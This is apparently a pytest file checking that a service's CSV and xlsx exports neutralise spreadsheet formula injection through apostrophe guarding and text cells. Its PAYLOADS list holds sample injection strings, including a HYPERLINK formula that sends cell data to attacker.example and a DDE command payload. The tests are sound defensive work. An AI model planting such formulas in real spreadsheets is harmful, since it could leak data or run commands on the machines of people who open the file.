"""No value the service writes to a spreadsheet runs as a formula (issue 11, finding 3).

CSV: a text beginning with a formula character gets one leading apostrophe, which import removes
again, so export -> import -> export gives the same files (data-package.md). xlsx: every text is a
text cell, never a formula, in the data-package export and through `append_row` (the report's
workbook)."""
import itertools
import re
import zipfile

import pytest
import sqlalchemy as sa
from openpyxl import Workbook, load_workbook

from matchmaker.infra.extensions import db
from matchmaker.infra.spreadsheets import FORMULA_STARTS, append_row, guard_csv_text, unguard_csv_text
from matchmaker.models import Firm, Region
from matchmaker.packages.readers import read_package
from matchmaker.packages.writers import write_csv_folder, write_xlsx
from matchmaker.services.packages import export_package, import_package

PAYLOADS = ["=1+1", '=HYPERLINK("http://attacker.example/?d="&B3,"open details")', "=cmd|' /C calc'!A0",
            "+1", "-5 pieces", "-5", "@SUM(A1)", "@x"]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_formula_start_is_guarded_with_one_apostrophe(start):
    assert guard_csv_text(start + "1+1") == "'" + start + "1+1"
    assert unguard_csv_text("'" + start + "1+1") == start + "1+1"


def test_the_guard_is_lossless_and_leaves_other_text_alone():
    assert [guard_csv_text(t) for t in ("1+1", "a=b", "'already", "'", "", " =1")] == [
        "1+1", "a=b", "'already", "'", "", " =1"]
    assert guard_csv_text("'=x") == "''=x" and unguard_csv_text("''=x") == "'=x"  # apostrophes before a start
    alphabet = ["'", "=", "-", "a", "\t", "@"]
    for n in range(5):
        for letters in itertools.product(alphabet, repeat=n):
            text = "".join(letters)
            guarded = guard_csv_text(text)
            assert unguard_csv_text(guarded) == text
            assert not guarded.startswith(FORMULA_STARTS)  # nothing a spreadsheet would run


def test_csv_export_guards_text_and_not_numbers(tmp_path):
    package = {"regions": [{"code": "230102", "name": "=1+1", "level": "county", "parent": "230100",
                            "lat": -12.5, "lon": -70.25, "risk": "low"}],
               "firms": [{"ref": "F1", "name": "-5 pieces", "kind": "sme", "region": "230102", "park": "@x",
                          "blockers": ["=a", "b"], "capacity_utilization": 0.5}]}
    write_csv_folder(package, tmp_path)
    regions = (tmp_path / "regions.csv").read_text(encoding="utf-8-sig").splitlines()
    assert regions[1] == "230102,'=1+1,county,230100,-12.5,-70.25,low"
    firms = (tmp_path / "firms.csv").read_text(encoding="utf-8-sig").splitlines()
    assert firms[1] == "F1,'-5 pieces,sme,230102,,'@x,,,0.5,,'=a;b,"


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_write_then_read_gives_back_each_formula_start(tmp_path, start):
    """The tab and the carriage return too (the service's import strips them with other blanks later)."""
    text = start + "SUM(A1)"
    write_csv_folder({"firms": [{"ref": "F1", "name": text, "kind": "sme", "region": "230102", "park": "'" + text}]},
                     tmp_path)
    assert (tmp_path / "firms.csv").read_text(encoding="utf-8-sig").splitlines()[0] == ",".join(
        ("ref", "name", "kind", "region", "industry", "park", "credit_code", "operating", "capacity_utilization",
         "workers_back", "blockers", "contact_email"))
    record = read_package(tmp_path).sections["firms"][0][1]
    assert (record["name"], record["park"]) == (text, "'" + text)


def test_csv_round_trip_through_the_service_is_lossless(tmp_path, load, base):
    """export -> import -> export gives identical files, with formula-like text and negative numbers."""
    base["regions"][2].update(lat=-45.76, lon=-126.61)  # plain negative numbers stay numbers
    base["firms"][0].update(name=PAYLOADS[0], park=PAYLOADS[1])
    base["firms"][1].update(name=PAYLOADS[2], park=PAYLOADS[3])
    base["needs"][0]["note"] = PAYLOADS[4]
    base["offers"][0]["note"] = PAYLOADS[5]
    base["firms"] += [{"ref": "F3", "name": PAYLOADS[6], "park": PAYLOADS[7], "kind": "sme", "region": "230102",
                       "contact_email": "=1+1@x.cn"},
                      {"ref": "F4", "name": "'already", "park": "'=x", "kind": "sme", "region": "230102"},
                      {"ref": "F5", "name": "''-1", "park": "'", "kind": "sme", "region": "230102"}]
    load(base)
    stored = {f.ref: (f.name, f.park) for f in db.session.scalars(sa.select(Firm))}
    assert stored["F4"] == ("'already", "'=x") and stored["F1"] == tuple(PAYLOADS[:2])
    first, second = tmp_path / "a", tmp_path / "b"
    export_package(first)
    raw = (first / "firms.csv").read_text(encoding="utf-8-sig")
    assert "''=x" in raw and ",'already," in raw and "'''-1" in raw
    assert not any(cell.startswith(FORMULA_STARTS) for line in raw.splitlines() for cell in line.split(","))
    from tests.packages.test_containers import _empty

    _empty()
    import_package(first, reference=False)
    assert {f.ref: (f.name, f.park) for f in db.session.scalars(sa.select(Firm))} == stored
    assert db.session.get(Region, "230102").lon == -126.61
    export_package(second)
    assert {p.name: p.read_bytes() for p in first.iterdir()} == {p.name: p.read_bytes() for p in second.iterdir()}


def _sheet_xml(path):
    with zipfile.ZipFile(path) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_xlsx_export_writes_each_formula_start_as_a_text_cell(tmp_path, start):
    text = start + "1+1"
    write_xlsx({"firms": [{"ref": "F1", "name": text, "kind": "sme", "region": "230102", "park": text,
                           "blockers": [text]}]}, tmp_path / "p.xlsx")
    xml = _sheet_xml(tmp_path / "p.xlsx")
    assert "<f>" not in xml and "<f " not in xml
    assert len(re.findall(r't="inlineStr"', xml)) == xml.count("<c ")
    cells = {c.value: c.data_type for c in load_workbook(tmp_path / "p.xlsx")["firms"][2]}
    assert cells[text] == "s"
    assert read_package(tmp_path / "p.xlsx").sections["firms"][0][1]["name"] == text  # \r kept (&#13;)


def test_append_row_writes_text_never_a_formula(tmp_path):
    wb = Workbook()
    plain, safe = wb.active, wb.create_sheet("safe")
    plain.append(["=1+1"])
    for ws in (plain, safe):
        append_row(ws, ["header"])
    append_row(safe, [*PAYLOADS, "\tx", "\rx", 5, -5, 1.5, None, "ok\x07"])
    wb.save(tmp_path / "r.xlsx")
    assert load_workbook(tmp_path / "r.xlsx").active["A1"].data_type == "f"  # what openpyxl does unasked
    with zipfile.ZipFile(tmp_path / "r.xlsx") as archive:
        xml = archive.read("xl/worksheets/sheet2.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    row = list(load_workbook(tmp_path / "r.xlsx")["safe"].iter_rows(min_row=2, values_only=False))[0]
    texts = [c for c in row if isinstance(c.value, str)]
    assert [c.value for c in texts][:len(PAYLOADS)] == PAYLOADS and all(c.data_type == "s" for c in texts)
    assert [c.value for c in row][-5:] == [5, -5, 1.5, None, "ok"]
